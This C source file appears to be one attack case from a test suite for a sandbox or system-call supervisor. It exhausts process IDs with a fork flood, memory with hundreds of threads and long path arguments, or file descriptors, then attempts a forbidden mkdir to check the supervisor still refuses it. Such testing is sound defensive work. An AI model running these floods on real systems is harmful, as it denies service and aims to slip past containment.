// exhaustion pids|memory|descriptors: uses up what the supervisor needs too, and then makes the forbidden call.
#define _GNU_SOURCE
#include "attack.h"

#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <sys/mman.h>

static void forbidden(void) {
  mkdir(forbidden_folder, 0700);
  syscall(SYS_mkdirat, -100, forbidden_folder, 0700);
}

static void* in_thread(void* unused) {
  (void)unused;
  forbidden();
  pause();
  return NULL;
}

static void use_up_pids(void) {
  for (int i = 0; i < 20000; ++i) {
    const pid_t child = fork();
    if (child < 0) break;
    if (child == 0) {
      forbidden();
      pause();
      _exit(0);
    }
  }
}

/// Each thread costs the supervisor memory; long arguments do too.
static void use_up_memory(void) {
  const size_t size = 1 << 20;
  char* path = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  memset(path, 'x', size - 1);
  for (int i = 0; i < 400; ++i) {
    pthread_attr_t attributes;
    pthread_attr_init(&attributes);
    pthread_attr_setstacksize(&attributes, 65536);
    pthread_t thread;
    if (pthread_create(&thread, &attributes, in_thread, NULL) != 0) break;
    syscall(SYS_mkdir, path, 0700);
  }
}

static void use_up_descriptors(void) {
  for (int i = 0; i < 4000; ++i) {
    const int fd = open("/dev/null", O_RDONLY);
    if (fd < 0) break;
  }
  for (int i = 0; i < 300; ++i) {
    if (fork() == 0) {
      forbidden();
      _exit(0);
    }
    waitpid(-1, NULL, WNOHANG);
  }
}

int main(int argc, char** argv) {
  if (argc < 2) return 2;
  if (strcmp(argv[1], "pids") == 0) use_up_pids();
  if (strcmp(argv[1], "memory") == 0) use_up_memory();
  if (strcmp(argv[1], "descriptors") == 0) use_up_descriptors();
  forbidden();
  tried(argv[1], was_made());
  return verdict("refused all the same");
}
